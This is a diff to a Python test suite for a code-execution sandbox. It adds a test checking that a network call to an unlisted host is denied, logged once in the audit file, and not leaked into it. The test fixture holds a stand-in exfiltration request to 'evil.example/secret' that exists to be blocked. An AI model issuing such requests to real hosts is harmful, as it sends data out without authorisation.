@@ -82,12 +82,33 @@ def test_a_log_that_cannot_be_written_is_a_config_error(tmp_path: Path) -> None:
             codemode.execute("1")
 
 
+def test_what_the_way_out_refused_is_written_and_nothing_twice(tmp_path: Path) -> None:
+    policy = {"network": {"mode": "restricted", "allowed_domains": ["api.example"]}}
+    code = "import urllib.request\nurllib.request.urlopen('http://evil.example/secret?of=mine')"
+    with Codemode.local({"audit": tmp_path / "audit.jsonl", **policy}) as codemode:
+        result = codemode.execute(code)
+    (violation,) = [each for each in result.violations if each.kind == "unauthorized_network"]
+    assert (violation.source, violation.detail.partition(":")[0]) == ("supervisor", "evil.example")
+    _, start, network, end, _ = read(tmp_path / "audit.jsonl")
+    assert [start["event"], network["event"], end["event"]] == ["start", "network", "end"]
+    said = {key: network[key] for key in ("decision", "reason", "host", "port", "via", "address", "detail")}
+    assert said == {
+        "decision": "deny", "reason": "not_listed", "host": "evil.example", "port": 80, "via": "http", "address": None,
+        "detail": violation.detail,
+    }  # fmt: skip
+    assert "secret" not in (tmp_path / "audit.jsonl").read_text()
+
+
 def test_the_documented_lines_are_those_that_are_written(tmp_path: Path) -> None:
     document = Path(__file__).parents[3] / "docs" / "audit.md"
     examples = [json.loads(line) for line in re.findall(r"^\{.*\}$", document.read_text(), re.MULTILINE)]
     keys = {(line["event"], line.get("status") == "called"): list(line) for line in examples}
     test_a_daemon_says_who_did_what(tmp_path)
     written = read(tmp_path / "audit.jsonl")
+    other = tmp_path / "other"
+    other.mkdir()
+    test_what_the_way_out_refused_is_written_and_nothing_twice(other)
+    written += read(other / "audit.jsonl")
     assert {line["event"] for line in written} == {event for event, _ in keys} - {"gap"}
     for line in written:
         assert list(line) == keys[line["event"], line.get("status") == "called"], line["event"]
